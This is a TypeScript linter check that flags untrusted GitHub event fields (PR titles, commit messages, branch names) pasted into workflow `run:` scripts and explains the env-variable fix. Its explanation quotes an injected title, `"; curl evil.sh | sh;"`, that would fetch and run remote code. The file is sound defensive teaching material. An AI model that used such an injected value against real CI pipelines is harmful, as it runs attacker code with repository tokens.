// ci.script-injection (general): no attacker-controlled expression pasted into a `run:` script.
import type { CheckDefinition, Finding } from '../../types';
import { rangeOf } from '../parse';
import { type Check, allSteps } from './common';

export const definition: CheckDefinition = {
  id: 'ci.script-injection',
  title: 'No untrusted input in run scripts',
  scope: 'general',
  why:
    'Expressions in `run:` are pasted into the shell script before it runs. A commit message, branch name or PR title is written by whoever opens the pull request, ' +
    'so a title like `"; curl evil.sh | sh;"` would execute on your runner with your token. Pass such values through environment variables instead.',
  lesson: 'ci-cd-for-ml',
  hints: [
    'Which values in your `run:` scripts come from the person who pushed or opened the pull request?',
    'Do not put `${{ github.event.* }}` inside `run:`; map it to an `env:` variable and use the variable.',
    'Step: `env: { COMMIT_MSG: ${{ github.event.head_commit.message }} }` and `run: echo "$COMMIT_MSG"`.',
  ],
};

/** Event fields whose text the pusher or PR author chooses (numbers, SHAs and ids are safe). */
const UNTRUSTED =
  /github\.head_ref|github\.event\.(?:[\w.*-]*\.)?(?:title|body|message|name|email|label|ref|head_ref|head_branch|default_branch|page_name|description|login|text|comment|review|pages|commits|head_commit|issue|pull_request\.head)\b/i;
const SAFE_TAIL = /\.(number|id|sha|merged|draft|node_id|size|created_at|updated_at|html_url|url)\s*$/i;

export const run: Check = (wf) => {
  const out: Finding[] = [];
  for (const s of allSteps(wf)) {
    const r = rangeOf(s.run);
    if (!r) continue;
    const src = wf.pos.text.slice(r[0], r[1]);
    const re = /\$\{\{([\s\S]*?)\}\}/g;
    let m: RegExpExecArray | null;
    while ((m = re.exec(src)) !== null) {
      const inner = (m[1] ?? '').trim();
      // Inputs of workflow_dispatch/workflow_call come from people with write access; repository fields from its owner.
      if (!UNTRUSTED.test(inner.replace(/github\.event\.(inputs|repository)\.[\w.-]+/g, ''))) continue;
      if (/^github\.event\.[\w.-]+$/.test(inner) && SAFE_TAIL.test(inner)) continue;
      const name = (/github\.(?:event\.)?([\w.-]+)/.exec(inner)?.[1] ?? 'value').split('.').pop()!.toUpperCase().replace(/[^A-Z0-9]+/g, '_');
      out.push(
        wf.pos.offsetFinding(
          r[0] + m.index,
          r[0] + m.index + m[0].length,
          `\`${m[0]}\` is pasted into the shell script before it runs, and its text is chosen by whoever pushes or opens a PR: a crafted value runs commands on your runner. ` +
            `Pass it through \`env:\` (e.g. \`${name}: ${m[0]}\`) and use \`"$${name}"\` in the script.`,
        ),
      );
    }
  }
  return out;
};
